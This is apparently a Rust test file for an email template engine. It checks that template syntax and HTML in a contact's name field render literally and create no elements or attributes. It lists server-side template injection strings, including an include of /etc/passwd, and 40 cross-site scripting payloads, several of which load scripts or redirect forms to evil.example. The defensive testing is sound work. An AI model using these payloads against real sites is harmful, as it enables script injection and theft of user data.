//! Data in messages: it is never a template, and never markup.

use crate::templates::{nested, record};
use campc::lang::{Value, Zone};
use campc::template::{Escaping, Templates};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use std::cell::RefCell;

fn rendered(escaping: Escaping, source: &str, name: &str) -> String {
    let mut templates = Templates::new();
    templates.add("t", escaping, source).expect("the template is good");
    templates.render("t", &record(&[("contact", nested(&[("first_name", Value::text(name))]))]), &Zone::utc()).expect("it renders")
}

#[test]
fn t07_a_template_in_a_field_appears_literally() {
    let payloads = [
        "{{ 7*7 }}{% include \"/etc/passwd\" %}",
        "{{ contact.first_name }}",
        "{% for i in range(9) %}x{% endfor %}",
        "{{ ''.__class__.__mro__ }}",
        "{# gone #}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "{{ unsubscribe_url }}",
        "{% set contact = 1 %}",
        "{{ env('HOME') }}",
        "{% raw %}{{ 1 }}{% endraw %}",
    ];
    for payload in payloads {
        assert_eq!(rendered(Escaping::None, "Hi {{ contact.first_name }}.", payload), format!("Hi {payload}."));
        let html = rendered(Escaping::Html, "<p>{{ contact.first_name }}</p>", payload);
        assert_eq!(texts(&html), payload, "{html}");
        // What was rendered once is not rendered again.
        assert_eq!(rendered(Escaping::None, "{{ contact.first_name | upper }}", payload), payload.to_uppercase());
    }
}

/// What a browser would make of it: the elements with the names of their attributes, and the text.
#[derive(Default)]
struct Seen {
    elements: RefCell<Vec<(String, Vec<String>)>>,
    text: RefCell<String>,
}

impl TokenSink for Seen {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => {
                let names = tag.attrs.iter().map(|attribute| attribute.name.local.to_string()).collect();
                self.elements.borrow_mut().push((tag.name.to_string(), names));
            }
            Token::CharacterTokens(text) => self.text.borrow_mut().push_str(&text),
            Token::CommentToken(text) => self.elements.borrow_mut().push((format!("<!--{text}"), Vec::new())),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn read(html: &str) -> Seen {
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Seen::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    tokenizer.sink
}

fn texts(html: &str) -> String {
    read(html).text.into_inner()
}

const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=p></form>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<table background=javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<!-- --><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</a></p></td></tr></table><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" style=\"position:fixed;inset:0",
    "` onmouseover=`alert(1)",
    "x onmouseover=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>alert(1)//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img\nsrc=x\tonerror\n=alert(1)>",
    "\u{fe64}script\u{fe65}\u{202e}<b>",
];

#[test]
fn t08_markup_in_a_field_makes_no_element_and_no_attribute() {
    let places = [
        "<p>Hi {{ contact.first_name }}!</p>",
        "<p title=\"{{ contact.first_name }}\">Hi</p>",
        "<p title='{{ contact.first_name }}'>Hi</p>",
        "<a href=\"https://acme.example/?name={{ contact.first_name }}\">see</a>",
        "<a href=\"https://acme.example/?name={{ contact.first_name | urlencode }}\">see</a>",
    ];
    for place in places {
        let harmless = read(&rendered(Escaping::Html, place, "Ana")).elements.into_inner();
        for payload in PAYLOADS {
            let html = rendered(Escaping::Html, place, payload);
            assert_eq!(read(&html).elements.into_inner(), harmless, "{payload:?} in {place} becomes {html}");
        }
    }
}
